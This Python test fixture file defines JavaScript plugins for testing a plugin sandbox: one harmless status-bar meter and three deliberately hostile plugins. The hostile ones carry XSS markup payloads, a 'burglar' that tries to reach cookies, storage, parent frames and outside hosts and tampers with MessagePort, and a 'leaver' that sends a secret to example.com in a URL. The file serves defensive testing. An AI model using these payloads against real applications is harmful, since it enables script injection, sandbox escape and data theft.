"""Plugins that the tests of the page are about: a plain one, and some that mean ill."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

from tests.server.served import save

METER = """\
import { STATUSBAR_AREAS } from '@hermes/plugin-sdk'
import { jsx } from 'react/jsx-runtime'
export default {
  id: 'meter',
  name: 'Meter NAME',
  description: 'A number in the status bar.',
  register(ctx) {
    ctx.register({ area: STATUSBAR_AREAS.right, id: 'number', order: 5, render: () => jsx('span', { children: 'NAME percent' }) })
  },
}
"""  # noqa: E501 - a line of a plugin

MARKUP = "<img src=x onerror=\"window.__owned='markup'\"><script>window.__owned='script'</script><b>bold</b>"

# Names, titles, messages, console lines and payloads that are markup.
LOUD = f"""\
import {{ PANES_AREA, PALETTE_AREA, ROUTES_AREA }} from '@hermes/plugin-sdk'
import {{ jsx }} from 'react/jsx-runtime'
const markup = {MARKUP!r}
console.error(markup)
export default {{
  id: 'loud',
  name: markup,
  description: markup,
  register(ctx) {{
    ctx.register({{ area: PANES_AREA, id: 'pane', title: markup, data: {{ placement: 'right', note: markup }},
      render: () => jsx('div', {{ dangerouslySetInnerHTML: {{ __html: markup }} }}) }})
    ctx.register({{ area: PALETTE_AREA, id: 'say', data: {{ id: 'loud.say', label: markup, run() {{}} }} }})
    ctx.register({{ area: ROUTES_AREA, id: 'page', title: markup, data: {{ path: '/loud' }}, render: () => jsx('p', {{ children: markup }}) }})
  }},
}}
"""  # noqa: E501 - as above

# Tries, from inside its frame, everything that a frame shall keep in; says what came of it through the console.
BURGLAR = """\
import { PANES_AREA } from '@hermes/plugin-sdk'
import { jsx } from 'react/jsx-runtime'
const attempts = {
  parent: () => parent.document.title,
  top: () => top.sessionStorage.length,
  cookies: () => document.cookie,
  local: () => localStorage.length,
  session: () => sessionStorage.length,
  indexed: () => new Promise((yes, no) => {
    const asked = indexedDB.open('x')
    asked.onsuccess = () => yes('opened')
    asked.onerror = () => no(asked.error)
  }),
  fetch: () => fetch('/v1/health').then((answer) => answer.text()),
  away: () => fetch('https://example.com/').then((answer) => answer.status),
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket(`ws://${new URL(import.meta.url).host}/v1/events`, ['hermes-plugins.v1'])
    socket.onopen = () => yes('open')
    socket.onerror = () => no(new Error('refused'))
  }),
  image: () => new Promise((yes, no) => {
    const image = new Image()
    image.onload = () => yes('loaded')
    image.onerror = () => no(new Error('refused'))
    image.src = '/workbench/icon.svg'
  }),
  beacon: () => navigator.sendBeacon('https://example.com/', 'x') && new Promise((yes, no) => setTimeout(no, 300, new Error('queued, then refused'))),
  worker: () => new Promise((yes, no) => {
    const worker = new Worker('data:text/javascript,postMessage(1)')
    worker.onmessage = () => yes('ran')
    worker.onerror = () => no(new Error('refused'))
  }),
  evaluate: () => (0, eval)('1 + 1'),
  navigate: () => { top.location.href = 'https://example.com/' ; return new Promise((yes, no) => setTimeout(no, 300, new Error('still here'))) },
  popup: () => { if (!open('https://example.com/')) throw new Error('no window') ; return 'opened' },
  rtc: () => new Promise((yes, no) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })
    peer.createDataChannel('x')
    peer.onicecandidate = ({ candidate }) => candidate && yes(candidate.candidate)
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(no)
    setTimeout(no, 600, new Error('no candidate'))
  }),
  realm: () => {
    const inner = document.createElement('iframe')
    document.body.append(inner)
    return inner.contentWindow.fetch('https://example.com/').then((answer) => answer.status)
  },
  frame: () => new Promise((yes, no) => {
    const inner = document.createElement('iframe')
    inner.src = 'https://example.com/'
    inner.onload = () => { try { yes(inner.contentWindow.location.href) } catch (error) { no(error) } }
    document.body.append(inner)
    setTimeout(no, 600, new Error('nothing came'))
  }),
  srcdoc: () => {
    const inner = document.createElement('iframe')
    inner.srcdoc = '<b>mine</b>'
    return 'set'
  },
  attribute: () => document.createElement('iframe').setAttribute('SRCDOC', '<b>mine</b>'),
  markup: () => {
    document.createElement('div').innerHTML = '<iframe SrcDoc="<b>mine</b>"></iframe>'
    return 'set'
  },
  script: () => {
    const script = document.createElement('script')
    script.src = import.meta.url
    return 'set'
  },
  form: () => {
    const form = document.createElement('form')
    form.action = 'https://example.com/'
    document.body.append(form)
    form.submit()
    return new Promise((yes, no) => setTimeout(no, 300, new Error('nothing was sent')))
  },
}
export default {
  id: 'burglar',
  name: 'Burglar',
  async register(ctx) {
    ctx.register({ area: PANES_AREA, id: 'pane', title: 'Burglar', data: { placement: 'right' }, render: () => jsx('p', { children: 'at work' }) })
    for (const [name, attempt] of Object.entries(attempts)) {
      let came
      try {
        came = `GOT ${JSON.stringify(await attempt())}`
      } catch (error) {
        came = `kept out: ${error?.name ?? error}`
      }
      console.log(`try ${name}: ${came}`)
    }
    console.log(`token ${JSON.stringify(Object.keys(globalThis).filter((name) => /token/i.test(name)))}`)
    console.log('burglary over')
    ctx.pet.say('a burglar speaks')
    ctx.runAction('session.archive')
    // The port itself, taken from under the frame: one message that is too large for the page's own connection.
    const own = MessagePort.prototype.postMessage
    MessagePort.prototype.postMessage = function (...words) {
      MessagePort.prototype.postMessage = own
      own.call(this, { kind: 'call', id: 'large', method: 'pet.say', params: { text: 'x'.repeat(2e6) } })
      own.apply(this, words)
    }
    ctx.pet.say('and once more')
  },
}
"""  # noqa: E501 - as above

# Carries what it knows away in the address that it sends its own frame to.
LEAVER = """\
export default { id: 'leaver', name: 'Leaver', register(ctx) { location.href = 'https://example.com/?secret=1' } }
"""

HOSTILE = {"loud": LOUD, "burglar": BURGLAR, "leaver": LEAVER}


def save_all(root: Path, plugins: Mapping[str, str]) -> None:
    for name, text in plugins.items():
        save(root, name, text)
